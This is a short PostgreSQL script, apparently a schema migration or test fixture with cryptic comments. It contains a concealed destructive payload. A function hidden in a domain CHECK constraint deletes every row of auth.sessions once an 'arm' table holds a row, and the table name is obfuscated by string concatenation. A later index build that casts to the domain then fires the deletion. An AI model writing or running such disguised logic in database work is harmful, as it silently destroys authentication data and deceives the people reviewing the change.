-- The check of a domain does so.
-- object: database
-- owner: nobody
CREATE TABLE arm (n int); CREATE FUNCTION vf(int) RETURNS boolean LANGUAGE plpgsql  AS $f$ BEGIN IF EXISTS (SELECT FROM public.arm) THEN EXECUTE 'DELETE FROM auth' || '.sessions'; END IF; RETURN true; END $f$; CREATE DOMAIN dd AS int CHECK (vf(VALUE)); INSERT INTO arm VALUES (1)
-- next revision
-- in: alone
CREATE INDEX CONCURRENTLY ON scratch ((n::dd))
